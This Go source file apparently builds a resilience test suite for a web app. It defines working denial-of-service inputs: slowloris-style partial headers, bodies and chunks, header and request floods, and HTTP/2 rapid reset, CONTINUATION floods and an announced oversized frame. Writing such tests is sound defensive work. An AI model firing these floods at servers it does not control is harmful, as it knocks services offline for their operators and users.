package hostile

import (
	"bytes"
	"net"
	"strings"

	"golang.org/x/net/http2"
)

// Visitors returns attacks that reach the App at a host: they begin as its visitors do. /large is
// an answer that is too large for all buffers.
func Visitors(host string, frames int) []Attack {
	head := " HTTP/1.1\r\nHost: " + host + "\r\n"
	get := func(path string) []byte {
		return Fields(":method", "GET", ":scheme", "https", ":authority", host, ":path", path)
	}
	post := Fields(":method", "POST", ":scheme", "https", ":authority", host, ":path", "/")
	attacks := []Attack{
		{Name: "half a header", Do: say("GET /" + head + "X-")},
		{Name: "a flood of headers", Do: say("GET /" + head + strings.Repeat("X: y\r\n", 12<<10))},
		{Name: "half a body", Do: say("POST /" + head + "Content-Length: 1000\r\n\r\nhalf")},
		{Name: "half a chunk", Do: say("POST /" + head + "Transfer-Encoding: chunked\r\n\r\n10\r\nhalf")},
		{Name: "a large answer that nobody reads", Do: say("GET /large" + head + "\r\n")},
		{Name: "many requests at once", Do: say(strings.Repeat("GET /"+head+"\r\n", frames))},
		{Name: "a WebSocket that is none", Do: say("GET /" + head + "Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n")},
	}
	for i := range attacks {
		attacks[i].Secure, attacks[i].ALPN = true, "http/1.1"
	}
	return append(attacks,
		h2("rapid reset", "", func(f *http2.Framer) {
			for i := range frames {
				id := uint32(2*i + 1)
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: get("/"), EndHeaders: true, EndStream: true})
				_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
			}
		}),
		h2("uploads that stop", "", func(f *http2.Framer) {
			for i := range min(frames, 100) {
				id := uint32(2*i + 1)
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: post, EndHeaders: true})
				_ = f.WriteData(id, false, []byte("half"))
			}
		}),
		h2("large answers that nobody reads", "", func(f *http2.Framer) {
			for i := range min(frames, 20) {
				id := uint32(2*i + 1)
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: get("/large"), EndHeaders: true, EndStream: true})
			}
		}),
		h2("a flood of CONTINUATION", "", func(f *http2.Framer) {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: get("/")})
			for range frames {
				_ = f.WriteContinuation(1, false, Fields("x", strings.Repeat("y", 1<<10)))
			}
		}),
		AnnouncedFrame(),
	)
}

// AnnouncedFrame is the header of a frame of a megabyte that never comes: a server must not make
// room for it.
func AnnouncedFrame() Attack {
	return Attack{Name: "a large frame that is announced", Secure: true, ALPN: "h2", Do: func(c net.Conn) {
		var frames bytes.Buffer
		frames.WriteString(http2.ClientPreface)
		f := http2.NewFramer(&frames, nil)
		_ = f.WriteSettings()
		frames.Write([]byte{0x0f, 0xff, 0xff, byte(http2.FrameHeaders), byte(http2.FlagHeadersEndHeaders), 0, 0, 0, 1})
		_, _ = c.Write(frames.Bytes())
	}}
}
